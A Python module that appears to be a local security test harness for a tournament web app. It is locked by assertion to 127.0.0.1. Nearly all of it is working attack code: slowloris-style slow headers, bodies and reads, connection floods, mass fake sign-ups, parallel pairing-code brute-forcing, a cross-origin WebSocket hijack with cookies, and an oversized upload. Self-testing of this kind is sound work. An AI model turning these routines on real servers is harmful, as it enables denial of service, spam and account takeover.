"""The attacks themselves: each opens what it opens, holds it for a while, and closes it. Against 127.0.0.1 alone."""

from __future__ import annotations

import asyncio
import json
import resource
import secrets
import uuid
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Any
from urllib.parse import urlsplit

import httpx
import websockets

Attack = Callable[["Target", asyncio.Event], Awaitable[dict[str, Any]]]


class Target:
    """What a stranger in the room's network knows: the address, the tournament's number, and a link that was sent
    through a messenger."""

    def __init__(self, url: str, tournament: int, *, sign_in: str = "", cookies: str = "") -> None:
        parts = urlsplit(url)
        assert parts.hostname == "127.0.0.1", "attacks are for this machine alone"
        self.url, self.host, self.port = url, parts.hostname, parts.port or 80
        self.tournament = tournament
        self.sign_in = sign_in
        self.cookies = cookies


def allow_many_files() -> None:
    """This process opens thousands of sockets itself."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = 12_000 if hard == resource.RLIM_INFINITY else min(hard, 12_000)
    if soft != resource.RLIM_INFINITY and soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))


async def slow_bodies(target: Target, over: asyncio.Event, *, count: int = 8) -> dict[str, Any]:
    """So many connections announce a body and send one byte of it, again and again."""
    body = b"POST /api/pair HTTP/1.1\r\nHost: %s:%d\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n{"
    head = body % (target.host.encode(), target.port)
    return await _hold(target, over, count=count, first=head, drip=b" ")


async def slow_uploads(target: Target, over: asyncio.Event, *, count: int = 8) -> dict[str, Any]:
    """The same at the admin, with a body in pieces whose end nobody has said."""
    head = (
        f"POST /admin/login/ HTTP/1.1\r\nHost: {target.host}:{target.port}\r\nTransfer-Encoding: chunked\r\n"
        "Content-Type: multipart/form-data; boundary=x\r\n\r\n"
    )
    return await _hold(target, over, count=count, first=head.encode(), drip=b"1\r\n \r\n")


async def slow_heads(target: Target, over: asyncio.Event, *, count: int = 200) -> dict[str, Any]:
    """Requests whose head never ends."""
    return await _hold(target, over, count=count, first=b"GET / HTTP/1.1\r\nHost: x\r\n", drip=b"X-A: b\r\n")


async def slow_readers(target: Target, over: asyncio.Event, *, count: int = 16) -> dict[str, Any]:
    """Who asks for a large answer again and again, and reads none of it."""
    head = f"GET /api/schema HTTP/1.1\r\nHost: {target.host}:{target.port}\r\n\r\n".encode() * 30
    return await _hold(target, over, count=count, first=head, drip=b"", reads=False)


async def silent_connections(target: Target, over: asyncio.Event, *, count: int = 2_000) -> dict[str, Any]:
    """Connections that say nothing."""
    return await _hold(target, over, count=count, first=b"", drip=b"")


async def _hold(
    target: Target, over: asyncio.Event, *, count: int, first: bytes, drip: bytes, reads: bool = True
) -> dict[str, Any]:
    """Open them, keep them busy with `drip` until it is over; how many the server has closed by then, and how soon."""
    loop = asyncio.get_running_loop()
    began = loop.time()
    closed: list[float] = []

    async def one() -> None:
        try:
            reader, writer = await asyncio.open_connection(target.host, target.port, limit=1024 if not reads else 65536)
        except OSError:
            closed.append(loop.time() - began)
            return
        if not reads:
            writer.transport.pause_reading()  # type: ignore[attr-defined]
        with suppress(OSError):
            writer.write(first)
            while not over.is_set():
                if reads:
                    with suppress(TimeoutError):
                        async with asyncio.timeout(0.5):
                            while await reader.read(4096):
                                pass
                        closed.append(loop.time() - began)
                        break
                else:
                    await asyncio.sleep(0.5)
                if writer.transport.is_closing():
                    closed.append(loop.time() - began)
                    break
                writer.write(drip)
        writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(count)))
    return {"opened": count, "closed": len(closed), "last closed after": round(max(closed, default=0), 1)}


async def sign_ups(target: Target, over: asyncio.Event, *, count: int = 4_000) -> dict[str, Any]:
    """One phone signs up again and again, each time by another name."""
    path = f"/api/tournaments/{target.tournament}/sign-up"
    bodies = ({"command_id": _tap(), "name": f"Nobody {number} {secrets.token_hex(3)}"} for number in range(count))
    return await _post_all(target, path, bodies, over, at_once=20)


async def guesses(target: Target, over: asyncio.Event, *, count: int = 400) -> dict[str, Any]:
    """So many pairing codes are tried at once."""
    return await _post_all(target, "/api/pair", ({"code": _code()} for _ in range(count)), over, at_once=count)


async def _post_all(target: Target, path: str, bodies: Any, over: asyncio.Event, *, at_once: int) -> dict[str, Any]:
    """All of them, so many at a time, each by a connection of its own; how many were answered what. Written by hand: a
    client that is made for comfort takes more time for this than the server, and the honest are measured beside it."""
    answers: Counter[int] = Counter()
    bodies = iter(bodies)

    async def one() -> None:
        for body in bodies:
            if over.is_set():
                return
            answers[await _post(target, path, json.dumps(body).encode())] += 1

    await asyncio.gather(*(one() for _ in range(at_once)))
    return {"answers": dict(sorted(answers.items()))}


async def _post(target: Target, path: str, body: bytes) -> int:
    """The status; 0 where no answer came."""
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {target.host}:{target.port}\r\nContent-Type: application/json\r\n"
        f"Connection: close\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    try:
        reader, writer = await asyncio.open_connection(target.host, target.port)
        writer.write(head.encode() + body)
        status = int((await asyncio.wait_for(reader.readline(), 60)).split()[1])
        writer.close()
    except (OSError, TimeoutError, IndexError):
        return 0
    return status


async def foreign_origin(target: Target, over: asyncio.Event) -> dict[str, Any]:
    """A page of somebody else's opens the director's socket in the director's own browser."""
    address = f"{target.url.replace('http', 'ws', 1)}/ws/tournaments/{target.tournament}/director"
    headers = {"Cookie": target.cookies}
    try:
        async with websockets.connect(
            address, additional_headers=headers, origin="http://elsewhere.example", proxy=None
        ) as socket:
            first = str(await asyncio.wait_for(socket.recv(), 10))
            second = str(await asyncio.wait_for(socket.recv(), 10)) if '"hello"' in first else ""
            return {"saw": "the console" if '"snapshot"' in second else first[:80]}
    except websockets.InvalidStatus as refused:
        return {"saw": f"status {refused.response.status_code}"}


async def preview_robot(target: Target, over: asyncio.Event) -> dict[str, Any]:
    """A messenger looks at a sign-in link that is being sent, to show what is behind it."""
    async with httpx.AsyncClient(timeout=10, follow_redirects=True, trust_env=False) as http:
        for _ in range(3):
            await http.get(f"{target.url}{urlsplit(target.sign_in).path}")
        role = (await http.get(f"{target.url}/api/session")).json()["role"]
    return {"role": role}


async def large_upload(target: Target, over: asyncio.Event, *, megabytes: int = 20) -> dict[str, Any]:
    """A stranger sends a file to where nobody asked for one."""
    sent = 0

    async def parts() -> Any:
        nonlocal sent
        yield b'--x\r\nContent-Disposition: form-data; name="f"; filename="f"\r\n\r\n'
        for _ in range(megabytes):
            sent += 1
            yield b"x" * 1_000_000
        yield b"\r\n--x--\r\n"

    headers = {"Content-Type": "multipart/form-data; boundary=x"}
    async with httpx.AsyncClient(timeout=30, trust_env=False) as http:
        try:
            answer: Any = (await http.post(f"{target.url}/admin/login/", content=parts(), headers=headers)).status_code
        except httpx.TransportError as fault:
            answer = type(fault).__name__
    return {"answer": answer, "megabytes sent": sent}


def _tap() -> str:
    return str(uuid.uuid4())


def _code() -> str:
    return "".join(secrets.choice("0123456789ABCDEFGHJKMNPQRSTVWXYZ") for _ in range(8))
